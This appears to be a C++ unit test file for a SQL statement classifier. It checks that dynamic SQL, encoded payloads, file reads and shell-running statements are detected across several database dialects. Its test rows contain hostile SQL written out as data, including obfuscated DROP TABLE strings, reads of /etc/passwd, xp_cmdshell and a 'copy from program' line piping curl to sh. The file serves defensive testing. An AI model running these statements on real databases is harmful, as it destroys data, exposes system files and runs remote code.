// Text and statements inside statements.
#include "tests/unit/sql/rows.h"

namespace interlock::sql_test {

TEST_CASE("text that runs is read: DO, EXECUTE, PREPARE, procedures and functions that take SQL") {
  const Row rows[] = {
      {"p", "do $$ begin drop table x; end $$", "DO ?; > DROP TABLE x"},
      {"p", "do language plpgsql $$ begin drop table x; end $$", "DO LANGUAGE plpgsql ?; > DROP TABLE x"},
      {"p", "do 'begin drop table x; end'", "DO ?; > DROP TABLE x"},
      {"p", "do $$ begin execute 'drop table ' || 'x'; end $$", "DO ?; > EXECUTE ? || ?; > DROP TABLE x"},
      {"p", "do $$ begin execute format('drop table %I', 'x'); end $$", "DO ?; > EXECUTE FORMAT (?, ?); > DROP TABLE x"},
      {"p", "do $$ begin if exists (select 1 from t) then drop table t; else truncate u; end if; end $$",
       "DO ?; > IF EXISTS (SELECT ? FROM t); > DROP TABLE t; > TRUNCATE u"},
      {"p", "do $$ declare q text := 'drop table x'; begin execute q; end $$", "DO ?; > DECLARE q TEXT := ?; > EXECUTE q; > DROP TABLE x"},
      {"p", "do $$ declare q text; begin q := 'drop '; q := q || 'table x'; execute q; end $$",
       "DO ?; > DECLARE q TEXT; > q := ?; > q := q || ?; > EXECUTE q; > DROP TABLE x"},
      {"p", "do $$ begin for r in select a from t loop execute 'drop table ' || r.a; end loop; end $$",
       "DO ?; > SELECT a FROM t; > EXECUTE ? || r.a; > DROP TABLE ?"},
      {"p", "do $$ begin perform 1; exception when others then delete from t; end $$",
       "DO ?; > PERFORM ?; > EXCEPTION WHEN others; > DELETE FROM t"},
      {"p", "do $$ begin while true loop delete from t; end loop; end $$", "DO ?; > WHILE TRUE; > DELETE FROM t"},
      {"p", "do $a$ begin execute $b$ do $c$ begin drop table x; end $c$ $b$; end $a$",
       "DO ?; > EXECUTE ?; > DO ?; > DROP TABLE x"},
      {"p", "do $$ begin raise notice 'drop table x'; end $$", "DO ?; > RAISE notice ?"},
      {"p", "do $$ begin update t set a = case when b then 1 else 2 end where id = 3; end $$",
       "DO ?; > UPDATE t SET a = CASE WHEN b THEN ? ELSE ? END WHERE id = ?"},
      {"p", "prepare p as delete from t", "PREPARE p AS DELETE FROM t; > DELETE FROM t"},
      {"p", "select dblink_exec('c', 'drop table x')", "SELECT dblink_exec(?, ?); > DROP TABLE x"},
      {"p", "select query_to_xml('delete from t returning *', true, true, '')", "SELECT query_to_xml(?, TRUE, TRUE, ?); > DELETE FROM t RETURNING *"},
      {"p", "select cron.schedule('x', '* * * * *', 'drop table x')", "SELECT cron.schedule(?, ?, ?); > DROP TABLE x"},
      {"p", "select exec_sql('drop table x')", "SELECT exec_sql(?); > DROP TABLE x"},
      {"p", "select log('drop table x')", "SELECT LOG (?)"},
      {"m", "prepare s from 'drop table x'; execute s", "PREPARE s FROM ?; > DROP TABLE x; EXECUTE s"},
      {"m", "set @q = concat('drop ', 'table x'); prepare s from @q", "SET @q = concat(?, ?); PREPARE s FROM @q; > DROP TABLE x"},
      {"m", "select 'drop table x' into @q; prepare s from @q", "SELECT ? INTO @q; PREPARE s FROM @q; > DROP TABLE x"},
      {"m", "set @q = 0x64726F70207461626C652078; prepare s from @q", "SET @q = ?; PREPARE s FROM @q; > DROP TABLE x"},
      {"m", "set @q = unhex('64726F70207461626C652078'); prepare s from @q", "SET @q = unhex(?); PREPARE s FROM @q; > DROP TABLE x"},
      {"m", "set @q = from_base64('ZHJvcCB0YWJsZSB4'); prepare s from @q", "SET @q = from_base64(?); PREPARE s FROM @q; > DROP TABLE x"},
      {"m", "execute immediate 'drop table x'", "EXECUTE IMMEDIATE ?; > DROP TABLE x"},
      {"m", "execute immediate concat('drop', ' table x')", "EXECUTE IMMEDIATE concat(?, ?); > DROP TABLE x"},
      {"m", "begin not atomic drop table x; end", "DROP TABLE x; END"},
      {"t", "exec('drop table x')", "EXEC (?); > DROP TABLE x"},
      {"t", "exec sp_executesql N'drop table x'", "EXEC sp_executesql ?; > DROP TABLE x"},
      {"t", "execute sys.sp_executesql @stmt = N'drop table x'", "EXECUTE sys.sp_executesql @stmt = ?; > DROP TABLE x"},
      {"t", "declare @q nvarchar(max) = N'drop table x' exec(@q)", "DECLARE @q nvarchar(max) = ?; EXEC (@q); > DROP TABLE x"},
      {"t", "declare @q varchar(9); set @q = 'drop '; set @q = @q + 'table x'; exec sp_executesql @q",
       "DECLARE @q varchar(?); SET @q = ?; SET @q = @q + ?; EXEC sp_executesql @q; > DROP TABLE x"},
      {"t", "declare @q varchar(9) select @q = 'drop table x' exec(@q)", "DECLARE @q varchar(?); SELECT @q = ?; EXEC (@q); > DROP TABLE x"},
      {"t", "exec sp_msforeachtable 'drop table ?'", "EXEC sp_msforeachtable ?; > DROP TABLE ?"},
      {"t", "sp_executesql N'drop table x'", "sp_executesql ?; > DROP TABLE x"},
      {"t", "insert into t exec('drop table x')", "INSERT INTO t; EXEC (?); > DROP TABLE x"},
      {"t", "select * from openquery(s, 'drop table x')", "SELECT * FROM openquery(s, ?); > DROP TABLE x"},
      {"g", "exec('drop table x')", "EXEC (?); > DROP TABLE x"},
      {"g", "execute immediate 'drop table x'", "EXECUTE IMMEDIATE ?; > DROP TABLE x"},
      {"g", "begin execute immediate 'drop table x'; end;", "EXECUTE IMMEDIATE ?; > DROP TABLE x; END"},
      {"p", "do $$ begin execute chr(68)||'ROP TABLE x'; end $$", "DO ?; > EXECUTE chr(?) || ?; > DROP TABLE x"},
      {"p", "do $$ begin execute convert_from(decode('ZHJvcCB0YWJsZSB4', 'base64'), 'utf8'); end $$",
       "DO ?; > EXECUTE convert_from(decode(?, ?), ?); > DROP TABLE x"},
      {"p", "do $$ begin execute replace('dropXtableXx', 'X', ' '); end $$", "DO ?; > EXECUTE REPLACE (?, ?, ?); > DROP TABLE x"},
      {"p", "do $$ begin execute reverse('x elbat pord'); end $$", "DO ?; > EXECUTE reverse(?); > DROP TABLE x"},
      {"p", "do E'begin drop ta\\x62le x; end'", "DO ?; > DROP TABLE x"},
      {"g", "create procedure p() begin drop table x; end; call p()", "CREATE PROCEDURE p() BEGIN DROP TABLE x; END; CALL p(); > DROP TABLE x"},
      {"p", "create function f() returns void as $$ drop table x $$ language sql; select f()",
       "CREATE FUNCTION f() RETURNS void AS ? LANGUAGE SQL; SELECT f(); > DROP TABLE x"},
      {"g", "with d as (delete from t returning *) select * from d", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d; > DELETE FROM t RETURNING *"},
      {"g", "explain analyze delete from t", "EXPLAIN ANALYZE DELETE FROM t; > DELETE FROM t"},
  };
  check_rows(rows, texts_of);
}

TEST_CASE("what runs inside counts for the statement that holds it") {
  const Row rows[] = {
      {"p", "do $$ begin drop table x; end $$", "drop session"},
      {"p", "do $$ begin delete from t where id = 1; end $$", "write session"},
      {"p", "do $$ begin execute q; end $$", "session dynamic"},
      {"p", "do $$ begin execute 'select ' || q; end $$", "read session dynamic"},
      {"p", "do $$ begin execute format('drop table %I', t); end $$", "drop session"},
      {"p", "do $$ begin execute format('%s', t); end $$", "session dynamic"},
      {"p", "do $$ import os $$ language plpython3u", "code dynamic?"},
      {"p", "execute p", "dynamic?"},
      {"p", "prepare p as delete from t where id = $1; execute p(1)", "write session; write"},
      {"p", "prepare p as delete from t; execute p", "delete_all session; delete_all"},
      {"p", "create function f() returns int as $$ delete from t $$ language sql", "create"},
      {"p", "select pg_read_file('/etc/passwd')", "read code"},
      {"p", "select pg_catalog.pg_read_file('/etc/passwd')", "read code"},
      {"p", "select lo_import('/etc/passwd')", "read code"},
      {"p", "select lo_unlink(5)", "read drop"},
      {"p", "select setval('s', 1)", "read write"},
      {"p", "select pg_terminate_backend(5)", "read session"},
      {"p", "select set_config('a', 'b', false)", "read session"},
      {"p", "select dblink_exec('drop table x')", "read drop"},
      {"p", "select dblink('host=x', 'select 1')", "read"},
      {"p", "select dblink(q)", "read dynamic?"},
      {"m", "prepare s from 'drop table x'; execute s; deallocate prepare s", "drop session; drop; session"},
      {"m", "prepare s from @q", "session dynamic?"},
      {"m", "select load_file('/etc/passwd')", "read code"},
      {"m", "select sys_exec('id')", "read code"},
      {"s", "select load_extension('x')", "read code"},
      {"s", "select writefile('x', 'y')", "read code"},
      {"s", "select readfile('x')", "read code"},
      {"s", "select edit('x')", "read code"},
      {"t", "exec xp_cmdshell 'dir'", "write code"},
      {"t", "exec master..xp_cmdshell 'dir'", "write code"},
      {"t", "xp_cmdshell 'dir'", "write code"},
      {"t", "exec sp_rename 'a', 'b'", "write alter_destructive"},
      {"t", "exec sp_configure 'x', 1", "write privilege"},
      {"t", "exec my_procedure 1, 'drop table x'", "write"},
      {"t", "exec(@q)", "dynamic?"},
      {"t", "execute as user = 'x'", "privilege"},
      {"t", "select * from openrowset('a', 'b', 'c')", "read code"},
      {"g", "call p(1)", "write"},
      {"g", "create view v as select pg_read_file('x')", "create"},
      {"g", "explain analyze insert into t values (1)", "read write"},
      {"g", "declare c cursor for select 1", "read session"},
  };
  check_rows(rows, classes_of);
}

TEST_CASE("a command line that a statement runs is reported") {
  const auto shell_of = [](const Row& row) {
    std::string out;
    for (const Statement& one : read_sql(row.text, options_of(row.dialect)))
      if (!one.shell.empty()) out += (out.empty() ? "" : "; ") + one.shell;
    return out;
  };
  const Row rows[] = {
      {"p", "copy t from program 'curl x | sh'", "curl x | sh"},
      {"p", "copy (select 1) to program $$ sh -c 'id' $$", " sh -c 'id' "},
      {"t", "exec xp_cmdshell 'dir c:'", "dir c:"},
      {"m", "select sys_exec('id')", "id"},
      {"p", "create foreign table t (a text) server s options (program 'id')", "id"},
      {"p", "do $$ begin execute 'copy t from program ''id'''; end $$", "id"},
      {"p", "select 'copy t from program ''id'''", ""},
  };
  check_rows(rows, shell_of);
}

TEST_CASE("text that runs is read in every way in which a server may read it") {
  const Row rows[] = {
      {"p", "do 'begin execute ''set standard_conforming_strings = off; select \\; drop table t; --; end'", "drop"},
      {"m", "execute immediate 'delete from t /*!99999 where id = 1 */'", "delete_all"},
      {"g", "execute immediate 'delete from t /*! where id = 1 */'", "delete_all"},
      {"g", "select q'!it's!' from dual; drop table users --'", "drop"},
      {"g", "select nq'[it's]' from dual; drop table users --'", "drop"},
      {"g", "select Q'<it's>', 1 from dual; drop table users --'", "drop"},
      {"g", "begin execute immediate q'[drop table users]'; end;", "drop"},
      {"g", "begin execute immediate q'{delete from t where a = 'x' or 1 = 1}'; end;", "delete_all"},
      {"g", "select q'!', 1; drop table users; --!' from dual", "drop"},
  };
  for (const Row& row : rows) {
    CAPTURE(std::string(row.text));
    std::uint32_t bits = 0;
    for (const Statement& one : read_sql(row.text, options_of(row.dialect))) bits |= one.classes.bits;
    CHECK((bits & class_named(row.expected).bits) != 0);
  }
}

}  // namespace interlock::sql_test
